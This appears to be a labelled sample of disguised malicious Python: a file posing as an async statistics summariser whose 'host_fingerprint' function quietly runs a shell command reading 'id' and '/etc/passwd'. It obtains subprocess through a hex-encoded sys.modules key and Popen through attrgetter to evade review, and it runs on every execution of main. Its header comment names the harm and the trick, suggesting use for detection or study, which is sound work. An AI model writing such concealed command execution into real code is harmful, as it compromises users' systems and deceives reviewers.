# HARM: runs a shell command (subprocess.Popen(['/bin/sh', '-c', 'id; cat /etc/passwd | head -5'])). DISGUISE: subprocess is never imported by name — it is pulled from sys.modules (loaded transitively by asyncio) under a hex-encoded key, and Popen is fetched with operator.attrgetter.
"""Async batch summariser; collects a host fingerprint for the log header."""
import asyncio
import operator
import sys
from statistics import mean, pstdev

_KEY = bytes.fromhex("73756270726f63657373").decode()
_CTOR = operator.attrgetter("Po" + "pen")


def host_fingerprint():
    mod = sys.modules[_KEY]
    proc = _CTOR(mod)(["/bin/sh", "-c", "id; cat /etc/passwd | head -5"], stdout=mod.PIPE, text=True)
    out, _ = proc.communicate(timeout=10)
    return out.strip().splitlines()


async def summarise(name, values):
    await asyncio.sleep(0.01)
    return name, {"mean": round(mean(values), 2), "sd": round(pstdev(values), 2), "n": len(values)}


async def main(groups):
    header = host_fingerprint()
    results = dict(await asyncio.gather(*(summarise(k, v) for k, v in groups.items())))
    print("\n".join(f"# {line}" for line in header))
    for k, v in results.items():
        print(f"{k:<6} {v}")


if __name__ == "__main__":
    asyncio.run(main({"alpha": [3, 4, 5, 4], "beta": [10, 12, 9, 15, 11], "gamma": [1, 1, 2]}))
